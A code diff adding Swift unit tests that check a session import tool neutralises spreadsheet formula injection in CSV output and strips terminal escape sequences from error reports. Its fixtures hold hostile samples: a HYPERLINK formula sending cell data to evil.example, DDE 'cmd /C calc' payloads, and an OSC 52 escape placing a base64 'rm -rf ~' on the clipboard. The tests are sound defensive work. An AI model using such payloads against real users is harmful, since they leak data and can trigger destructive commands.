@@ -73,6 +73,55 @@ struct SessionImportReadingTests {
         #expect(CSV.escape("a,b") == "\"a,b\"")
     }
 
+    @Test func cellsASpreadsheetWouldRunAsFormulasAreNeutralised() {
+        let formulas = [
+            #"=HYPERLINK("http://evil.example/?"&A1,"click")"#, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1", "\r=1+1",
+        ]
+        for value in formulas {
+            let cell = CSV.spreadsheetCell(value)
+            #expect(cell.hasPrefix("\"'"), "\(value) -> \(cell)")
+            #expect(CSV.records(cell + "\n").first?.fields == ["'" + value])
+        }
+        #expect(CSV.spreadsheetCell("A-1") == "A-1", "an ordinary cell is left as it was")
+        #expect(CSV.spreadsheetCell("A,7") == "\"A,7\"")
+
+        // A cell of the bench's CSV that comes back in the passes CSV: the asset tag, and a user name may start with '-'.
+        let text = "serialNumber,platform,userPrincipalName,preset,assetTag\nCART-1,ipados,-x@contoso.example,apple-ade,\"=HYPERLINK(\"\"http://evil.example\"\")\"\n"
+        guard case .success(let rows) = SessionImport.read(text, presets: Self.presets) else {
+            Issue.record("expected the row to be read")
+            return
+        }
+        let now = Date(timeIntervalSince1970: 1_795_687_200)
+        let session = Session(
+            id: SessionID(time: now, random: Array(repeating: 1, count: 10)), scenario: .deviceEnrollment, storedState: .active,
+            site: SiteName("bench-1")!, userPrincipalName: rows[0].request.userPrincipalName, device: nil,
+            createdBy: OperatorID(time: now, random: Array(repeating: 2, count: 10)), reason: nil, proofing: nil, createdAt: now,
+            updatedAt: now, completionDeadline: now, firstUsedAt: nil, closedAt: nil, pass: nil)
+        let line = SessionCommand.Import.line(rows[0], SessionView(session, now: now), format: .csv)
+        let fields = CSV.records(line + "\n").first?.fields ?? []
+        #expect(fields.count == 7)
+        #expect(fields.dropFirst().allSatisfy { !"=+-@\t\r".contains($0.first ?? " ") }, "\(line)")
+        #expect(fields.contains(#"'=HYPERLINK("http://evil.example")"#) && fields.contains("'-x@contoso.example"))
+    }
+
+    @Test func aBadCellIsReportedWithoutItsControlSequences() {
+        let hostile = "\u{1B}]0;owned\u{07}\u{1B}[2J\u{1B}]52;c;cm0gLXJmIH4=\u{07}\u{9B}2J"
+        let text = "serialNumber,platform,userPrincipalName,preset\n\"CART\(hostile)\r\",\"ios\(hostile)\",ada@contoso.example,apple-ade\n"
+        guard case .failure(.rows(let bad)) = SessionImport.read(text, presets: Self.presets) else {
+            Issue.record("expected the bad row")
+            return
+        }
+        let report = bad.map(\.description).joined()
+        #expect(report.hasPrefix("line 2: serialNumber 'CART\u{FFFD}"), "\(report)")
+        #expect(!TerminalText.containsActive(report), "\(report.debugDescription)")
+        guard case .failure(.file(let reason)) = SessionImport.read("serialNumber,col\(hostile)\n", presets: Self.presets) else {
+            Issue.record("expected the unknown column")
+            return
+        }
+        #expect(!TerminalText.containsActive(reason), "\(reason.debugDescription)")
+    }
+
     @Test func theSlipSheetHoldsOneSlipPerDeviceAndEscapesText() {
         let expires = Date(timeIntervalSince1970: 1_795_690_800)
         let html = SlipSheet.render(
